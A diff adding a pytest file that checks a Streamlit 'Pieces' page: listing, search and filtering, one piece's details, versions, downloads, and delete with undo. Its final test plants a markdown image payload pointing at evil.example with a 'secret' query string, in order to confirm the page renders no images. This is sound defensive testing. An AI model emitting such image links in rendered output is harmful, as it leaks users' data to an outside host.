@@ -1,0 +1,247 @@
+"""The page Pieces as a script: the list, one piece, its files, and deleting it."""
+
+from typing import Any
+
+import pytest
+from streamlit.testing.v1 import AppTest
+
+from agent.ports import KeptPiece, Picture, Ports, Version
+from tests.ui.test_issues_page import links, press, texts
+from ui import pieces, session
+
+pytestmark = pytest.mark.timeout(120)
+
+SECONDS = 40
+PICTURE = Picture(
+    png=bytes.fromhex(
+        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
+        "1f15c4890000000d49444154789c63606060f80f0001040100"
+        "5fe5c34b0000000049454e44ae426082"
+    ),
+    svg="<svg xmlns='http://www.w3.org/2000/svg'/>",
+    width=1,
+    height=1,
+    alt="A hall",
+    is_card=True,
+)
+
+
+def content(kind: str = "blog", text: str = "# Staging\n\nBegin with light.", **more: Any) -> Any:
+    return {
+        "kind": kind,
+        "title": "Staging",
+        "text": text,
+        "meta_description": "",
+        "alt": "",
+        "ratio": "",
+        "style": "",
+        "language": "en",
+        "claims": [],
+        "slots": [],
+        "wish": None,
+        "picture": "",
+        "origin": "rules",
+        "notes": [],
+        **more,
+    }
+
+
+def keep(id_: str, title: str, kind: str = "blog", *, thread: str = "gone", **more: Any) -> None:
+    made = content(kind, **more)
+    at = f"2026-03-01T10:00:0{len(ports().pieces.kept('local'))}+00:00"
+    ports().pieces.keep("local", KeptPiece(id_, kind, title, made, None, thread, at))
+
+
+def ports() -> Ports:
+    return session.agent().ports
+
+
+def page_of(app: AppTest, **query: str) -> AppTest:
+    for name, value in query.items():
+        app.query_params[name] = value
+    page = app.switch_page("../pages/pieces.py").run(timeout=SECONDS)
+    assert not page.exception
+    return page
+
+
+def shown(page: AppTest) -> list[str]:
+    return [label for label in links(page) if label != "Open Studio"]
+
+
+def downloads(page: AppTest) -> list[str]:
+    return [each.label for each in page.get("download_button")]
+
+
+# The list
+
+
+def test_without_a_piece_the_way_to_the_first_is_shown(app: AppTest) -> None:
+    page = page_of(app)
+    assert "**No piece yet.**" in texts(page)
+    assert links(page) == ["Open Studio"]
+
+
+def test_pieces_are_listed_the_latest_first_with_how_they_begin(app: AppTest) -> None:
+    keep("p1", "Home *staging*")
+    keep("p2", "Nine days", "linkedin", text="That is how much sooner it sells.\n\n#RealEstate")
+    page = page_of(app)
+    assert shown(page) == ["**Nine days**", r"**Home \*staging\***"]
+    assert "Begin with light." in texts(page)
+    assert "LinkedIn post · approved" in texts(page)
+
+
+def test_type_and_words_choose_among_them(app: AppTest) -> None:
+    keep("p1", "Home staging")
+    keep("p2", "Nine days", "linkedin", text="Staging pays.")
+    page = page_of(app)
+    assert len(page.pills[0].options) == 2
+    page = page.text_input(key="pieces-search").set_value("LIGHT").run()
+    assert shown(page) == ["**Home staging**"]
+    page = page.text_input(key="pieces-search").set_value("staging").run()
+    assert len(shown(page)) == 2
+    page = page.button_group(key="pieces-kind").set_value("linkedin").run()
+    assert shown(page) == ["**Nine days**"]
+    page = page.text_input(key="pieces-search").set_value("light").run()
+    assert "No piece fits." in texts(page)
+
+
+def test_a_long_list_comes_in_parts(app: AppTest) -> None:
+    for n in range(pieces.PAGE + 2):
+        keep(f"p{n}", f"Piece {n}")
+    page = page_of(app)
+    assert len(shown(page)) == pieces.PAGE
+    assert len(shown(press(page, "Show 2 more"))) == pieces.PAGE + 2
+
+
+@pytest.mark.parametrize(
+    ("text", "extract"),
+    [
+        ("# Title\n\n- a list\n\nThe **first** words\nof it.\n\nMore.", "The first words of it."),
+        ("| a | b |\n| - | - |\n\n1. one", ""),
+        ("word " * 100, "word " * 36 + "…"),
+    ],
+)
+def test_a_piece_is_known_by_its_first_paragraph(app: AppTest, text: str, extract: str) -> None:
+    keep("p1", "Title", text=text)
+    drawn = [block.value for block in page_of(app).markdown]
+    assert (extract in drawn) is bool(extract)
+
+
+# One piece
+
+
+def test_a_piece_is_shown_with_what_belongs_to_it(app: AppTest) -> None:
+    ports().pieces.put_picture("local", "x", PICTURE, thread="gone")
+    keep("p1", "Staging", meta_description="What pays & what not", alt="A hall", picture="x")
+    page = page_of(app, piece="p1")
+    said = texts(page)
+    assert page.header[0].value == "Staging"
+    assert "Begin with light." in said
+    assert "**Meta description** What pays & what not" in said
+    assert "**Alt text** A hall" in said
+    assert len(page.image) == 1
+    assert [tab.label for tab in page.tabs] == ["Text", "Preview"]
+    assert downloads(page) == ["Markdown", "HTML", "JSON", "PNG", "SVG"]
+
+
+def test_a_picture_that_is_gone_is_said(app: AppTest) -> None:
+    keep("p1", "Staging", picture="x")
+    page = page_of(app, piece="p1")
+    assert "The picture is not there any more." in texts(page)
+    assert downloads(page) == ["Markdown", "HTML", "JSON"]
+
+
+def test_what_it_rests_on_is_shown(app: AppTest) -> None:
+    research = {
+        "topic": "staging",
+        "language": "en",
+        "queries": [],
+        "summary": "",
+        "key_findings": [],
+        "sources": [
+            {
+                "id": "S1",
+                "title": "Market report",
+                "where": "web",
+                "url": "https://report.example/q1",
+                "document": "",
+                "heading": "",
+                "published": "",
+                "fetched": "",
+                "language": "en",
+                "notices": [],
+            }
+        ],
+        "claims": [
+            {
+                "id": "C1",
+                "text": "Nine days sooner.",
+                "source": "S1",
+                "quote": "nine days",
+                "verdict": "supported",
+                "reason": "",
+            }
+        ],
+        "related": [],
+        "notices": [],
+        "origin": "rules",
+        "at": "",
+    }
+    kept = KeptPiece("p1", "blog", "Staging", content(), research, "gone", "2026-03-01T10:00:00Z")
+    ports().pieces.keep("local", kept)
+    page = page_of(app, piece="p1")
+    assert "Sources" in [tab.label for tab in page.tabs]
+    assert "[Market report](https://report.example/q1) (report.example)" in texts(page)
+
+
+def test_versions_are_shown_with_what_each_changed_and_which_was_approved(app: AppTest) -> None:
+    first, second = content(text="Begin with light."), content(text="Begin with air.")
+    for n, made in enumerate((first, second, {**second, "title": "Never kept"})):
+        why = ("drafted", "rewritten", "edited")[n]
+        comment = "Less light" if n == 1 else ""
+        version = Version(
+            f"v{n}", "p1", "gone", 0, f"2026-03-01T10:00:0{n}+00:00", why, made, comment
+        )
+        ports().pieces.add_version("local", version)
+    keep("p1", "Staging", text="Begin with air.")
+    page = page_of(app, piece="p1")
+    assert page.tabs[-1].label == "Versions (3)"
+    said = "\n".join(block.value for block in page.tabs[-1].markdown)
+    assert ":red-background[~~light~~]:green-background[air]" in said
+    assert [line for line in said.splitlines() if "approved]" in line] == [
+        "**Version 2** rewritten, 01 Mar 2026 10:00 UTC :green-badge[:material/check: approved]"
+    ]
+    assert "“Less light”" in texts(page)
+
+
+def test_the_conversation_is_offered_as_long_as_there_is_one(app: AppTest) -> None:
+    thread = session.graph_agent().ledger.threads.create("local", "studio", title="Talk")
+    keep("p1", "Staging", thread=thread)
+    keep("p2", "Rates")
+    assert "Open the conversation" in links(page_of(app, piece="p1"))
+    assert "Open the conversation" not in links(page_of(app, piece="p2"))
+    session.agent().delete(thread)
+    assert "Open the conversation" not in links(page_of(app, piece="p1"))
+
+
+def test_a_delete_can_be_undone(app: AppTest) -> None:
+    keep("p1", "Staging")
+    page = press(page_of(app, piece="p1"), "Delete")
+    assert ports().pieces.kept("local") == []
+    assert "Deleted “Staging”" in texts(page)
+    page = press(page, "Undo")
+    assert shown(page) == ["**Staging**"]
+    assert "Deleted" not in texts(page)
+
+
+def test_an_unknown_piece_is_not_found(app: AppTest) -> None:
+    page = page_of(app, piece="p9")
+    assert "This piece does not exist here." in page.warning[0].value
+    assert press(page, "All pieces").title[0].value == "Pieces"
+
+
+def test_a_piece_cannot_draw_anything(app: AppTest) -> None:
+    evil = "![x](http://evil.example/?q=secret)"
+    keep("p1", evil, text=evil, meta_description=evil, alt=evil)
+    assert "![" not in texts(page_of(app))
+    assert "![" not in texts(page_of(app, piece="p1"))
